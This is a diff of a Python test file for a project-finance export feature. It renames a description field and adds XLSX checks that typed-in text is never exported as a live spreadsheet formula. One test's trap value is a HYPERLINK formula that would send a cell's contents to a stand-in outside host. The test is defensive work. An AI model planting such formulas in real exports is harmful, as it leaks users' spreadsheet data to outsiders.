@@ -3,6 +3,7 @@
 import csv
 import io
 import tracemalloc
+import zipfile
 from datetime import date
 from decimal import Decimal
 
@@ -87,7 +88,7 @@ def bus(commune):
         "3",
         region,
         350_000,
-        description="Première tranche",
+        description_fr="Première tranche",
         override_reason="Raison interne de dépassement",
     )
     return project
@@ -145,7 +146,7 @@ def test_the_transactions_csv_has_rate_and_value_but_no_override_reason(client_f
     assert tranche["project"] == "PRJ-BUS" and tranche["date"] == "2025-03-01"
     assert D(tranche["amount"]) == D("350000") and tranche["currency"] == "MAD"
     assert D(tranche["rate"]) == 1 and D(tranche["mad_value"]) == D("350000")
-    assert tranche["description"] == "Première tranche"
+    assert tranche["description_fr"] == "Première tranche"
     assert "override_reason" not in tranche and "Raison interne" not in str(rows)
 
 
@@ -220,7 +221,7 @@ def make_transactions(project, provider, count):
                 currency="MAD",
                 rate=D("1"),
                 mad_value=D("1234.56"),
-                description=f"Facture n° {n:06}",
+                description_fr=f"Facture n° {n:06}",
             )
             for n in range(count)
         ],
@@ -276,11 +277,17 @@ def test_exporting_ten_times_more_transactions_does_not_take_ten_times_the_memor
 
 def test_typed_in_text_is_never_exported_as_a_spreadsheet_formula(client_for, bus, commune):
     trap = '=HYPERLINK("http://example.org/?"&A1,"Cliquer")'
-    record(bus, "4", commune, 100, description=trap)
+    record(bus, "4", commune, 100, description_fr=trap)
     Project.objects.filter(pk=bus.pk).update(title_fr="+33 projet")
     client = client_for("finance")
     rows = read_csv(client.get(url("projects:transactions-export")))
-    assert rows[-1]["description"] == "'" + trap
-    cells = read_xlsx(client.get(url("projects:transactions-export", fmt="xlsx")))
-    assert cells[-1]["description"] == "'" + trap
+    assert rows[-1]["description_fr"] == "'" + trap
+    # XLSX: an inline string, which no spreadsheet evaluates, written as typed (no apostrophe).
+    response = client.get(url("projects:transactions-export", fmt="xlsx"))
+    content = b"".join(response.streaming_content)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and 't="inlineStr"' in sheet
+    rows = list(load_workbook(io.BytesIO(content), read_only=True).worksheets[0].values)
+    assert rows[-1][rows[0].index("description_fr")] == trap
     assert read_csv(client.get(url("projects:projects-export")))[0]["title_fr"] == "'+33 projet"
